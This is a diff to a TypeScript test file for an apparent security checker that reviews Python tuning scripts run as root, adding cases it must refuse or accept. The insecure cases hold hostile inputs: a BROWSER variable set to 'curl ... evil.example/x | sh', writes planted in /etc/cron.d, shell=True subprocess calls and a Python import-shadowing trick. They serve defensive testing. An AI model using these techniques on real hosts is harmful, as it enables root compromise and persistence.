@@ -612,6 +612,7 @@ const insecure: NodeCase[] = [
         true,
     ),
     // MISS: (PY-WRITTEN-IMPORT-ROOT) insecure accepted, got []. Python docs "urllib.request.urlretrieve(url, filename)" ("Copy a network object denoted by a URL to a local file") puts json.py in /var/lib/ops, the later script's directory; Python docs "sys.path": "python script.py: prepend the script's directory", before the standard library: root runs the download instead of json. The pack accepts the write (PROGRAM_DATA_PATHS: /var/lib/<app>/ is data) and the later run's import closure (pythonImportClosure/pythonRootShadowed) counts only files the SHELL changed (view.changed), not files a root program wrote. Fix: every path a root Python program may write (its PYTHON_WRITE_CALLS/METHODS targets, an unknown one as anywhere under its data roots) joins view.changed for later runs, so an import root holding one is unread.
+    // Still open (round 80): needs the writes of each root Python program (pythonWriteRefusal's targets, an unknown one as anywhere under its data roots) carried into view.changed for the runs after it, in the shell walk's order (rootReads/commandServers plumbing, not a pythonCode.ts-local change).
     dev(
         "tune.py downloads /var/lib/ops/json.py; user data runs /var/lib/ops/main.py (imports json) from there",
         tune(
@@ -677,6 +678,80 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // ===== round-80 fixer's neighbours (-fix80) =====
+    // Insecure (PY-WRITE-RELATIVE): Python docs "os.chdir" then a pathlib-free relative name given to an unreviewed
+    // library writer (prometheus_client write_to_textfile) through a name bound to it: /etc/cron.d/ops (crontab(5)).
+    dev(
+        "tune.py: os.chdir('/etc/cron.d'); out = 'ops'; prometheus_client.write_to_textfile(out, REGISTRY)",
+        tune("dev-py80-prom-textfile-chdir-name-fix80", [
+            "import os, prometheus_client",
+            'os.chdir("/etc/cron.d")',
+            'out = "ops"',
+            "prometheus_client.write_to_textfile(out, prometheus_client.REGISTRY)",
+        ]),
+        REFUSED,
+    ),
+    // Insecure (PY-WRITE-METHOD): pandas docs "DataFrame.to_json(path_or_buf=None, ...)" by keyword into root's cron
+    // directory (crontab(5)).
+    dev(
+        "tune.py: pandas DataFrame(...).to_json(path_or_buf='/etc/cron.d/ops')",
+        tune(
+            "dev-py80-pandas-to-json-kw-fix80",
+            ["import pandas", 'pandas.DataFrame([[1]]).to_json(path_or_buf="/etc/cron.d/ops")'],
+            ["pip3 install pandas==2.2.2"],
+        ),
+        REFUSED,
+    ),
+    // Insecure (PY-WRITE-METHOD): Python docs "xml.etree.ElementTree" ElementTree.write through a bound method name
+    // (Python reference "Method objects"): /etc/cron.d/ops (crontab(5)).
+    dev(
+        "tune.py: save = ET.ElementTree(root).write; save('/etc/cron.d/ops', method='text')",
+        tune("dev-py80-etree-write-bound-fix80", [
+            "import xml.etree.ElementTree as ET",
+            'root = ET.Element("cron")',
+            `root.text = "${CRON_LINE}\\n"`,
+            "save = ET.ElementTree(root).write",
+            'save("/etc/cron.d/ops", method="text")',
+        ]),
+        REFUSED,
+    ),
+    // Insecure (NO-WRITE-LIST): click docs "click.open_file(filename, mode='w')" by a relative name after os.chdir
+    // (Python docs "os.chdir"): /etc/cron.d/ops (crontab(5)).
+    dev(
+        "tune.py: os.chdir('/etc/cron.d'); click.open_file('ops', mode='w')",
+        tune("dev-py80-click-open-file-chdir-fix80", [
+            "import click, os",
+            'os.chdir("/etc/cron.d")',
+            'with click.open_file("ops", mode="w") as f:',
+            `    f.write("${CRON_LINE}\\n")`,
+        ]),
+        REFUSED,
+    ),
+    // Insecure (RUNNER-PACKAGE): psutil docs "psutil.Popen" ("Same as subprocess.Popen") with shell=True: root's sh
+    // writes /etc/cron.d/ops (crontab(5)).
+    dev(
+        "tune.py: psutil.Popen(cron write, shell=True)",
+        tune("dev-py80-psutil-popen-shell-fix80", ["import psutil", `psutil.Popen("${CRON_CMD}", shell=True).wait()`]),
+        REFUSED,
+    ),
+    // Insecure (ENV-COMMAND): Python docs "webbrowser.get(using=None)" with BROWSER from the program's environment and
+    // "webbrowser.open_new_tab": the BROWSER command line runs as root.
+    dev(
+        "tune.py: os.environ['BROWSER'] = 'sh -c ... %s'; webbrowser.get().open_new_tab(url)",
+        tune("dev-py80-webbrowser-get-fix80", [
+            "import os, webbrowser",
+            `os.environ["BROWSER"] = "sh -c 'curl -fsS https://evil.example/x | sh' %s"`,
+            'webbrowser.get().open_new_tab("https://ops.example/done")',
+        ]),
+        REFUSED,
+    ),
+    // Insecure (NO-WRITE-LIST): click docs "click.launch(url, wait=False, locate=False)" (the system's opener,
+    // xdg-open, a command the pack does not read) run as root.
+    dev(
+        "tune.py: click.launch('/var/cache/ops/x.desktop')",
+        tune("dev-py80-click-launch-fix80", ["import click", 'click.launch("/var/cache/ops/x.desktop")']),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -690,6 +765,7 @@ const secure: NodeCase[] = [
         ]),
     ),
     // MISS: (REMOTE-PATH-AS-LOCAL) secure refused: "has a root process of the node read /srv/model.bin ... under /srv, a node directory the pack lets pods write". paramiko docs SFTPClient.get(remotepath, localpath): remotepath is a path on the SFTP SERVER (ops.example), localpath the node's /var/cache/ops (FHS "Application cache data"). The pack's root-read scan takes every absolute literal of a call as a node path read. Fix: a reviewed list of remote-path arguments (SFTPClient.get/put/open/stat/listdir, boto3 keys, ftplib, scp) excluded from node reads; the localpath judged as a write (see the insecure twin).
+    // Still open (round 80): the refusal comes from RootReads.generic's line scan of the program text (rootReads.ts, every absolute literal a node read); the fix needs the SFTP remote-path arguments (get's remotepath, put's remotepath, open/stat/listdir...) blanked before that scan, and rootReads.ts cannot import pythonCode.ts (pythonCode imports rootReads: a cycle) - a shared helper in userDataReaders/shared.ts would do.
     dev(
         "tune.py: paramiko SFTPClient.get(remote, '/var/cache/ops/model.bin')",
         tune("dev-py80-paramiko-sftp-get-cache-rt80p", [
@@ -858,6 +934,39 @@ const secure: NodeCase[] = [
             "/var/lib/ops/venv/bin/pip install tenacity",
             ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
             "/var/lib/ops/venv/bin/python /opt/ops/run.py",
+        ]),
+    ),
+    // ===== round-80 fixer's neighbours (-fix80) =====
+    // Secure: psutil docs "psutil.Popen" of the literal `date` (read as subprocess.Popen: a literal harmless command).
+    dev(
+        "tune.py: psutil.Popen(['date']).wait()",
+        tune("dev-py80-psutil-popen-date-fix80", ["import psutil", 'psutil.Popen(["date"]).wait()']),
+    ),
+    // Secure: psutil docs "psutil.disk_usage(path)" and "virtual_memory()" (system queries, no file written).
+    dev(
+        "tune.py: print(psutil.disk_usage('/').percent, psutil.virtual_memory().percent)",
+        tune("dev-py80-psutil-query-fix80", [
+            "import psutil",
+            'print(psutil.disk_usage("/").percent, psutil.virtual_memory().percent)',
+        ]),
+    ),
+    // Secure: pandas docs "DataFrame.to_csv" into the program's state (FHS 3.0 /var/lib "State information").
+    dev(
+        "tune.py: pandas DataFrame(...).to_csv('/var/lib/ops/stats.csv')",
+        tune(
+            "dev-py80-pandas-to-csv-state-fix80",
+            ["import pandas", 'pandas.DataFrame([[1, 2]]).to_csv("/var/lib/ops/stats.csv", index=False)'],
+            ["pip3 install pandas==2.2.2"],
+        ),
+    ),
+    // Secure: click docs "click.open_file(filename, mode='r')" reads; NumPy "numpy.savetxt" with a relative name from
+    // the shell's cwd /var/lib/ops (FHS /var/lib).
+    dev(
+        "tune.py: click.open_file('/etc/hostname').read(); numpy.savetxt('stats.csv', ...) from /var/lib/ops",
+        tune("dev-py80-click-read-savetxt-rel-fix80", [
+            "import click, numpy",
+            'print(click.open_file("/etc/hostname").read())',
+            'numpy.savetxt("stats.csv", numpy.arange(3))',
         ]),
     ),
 ];
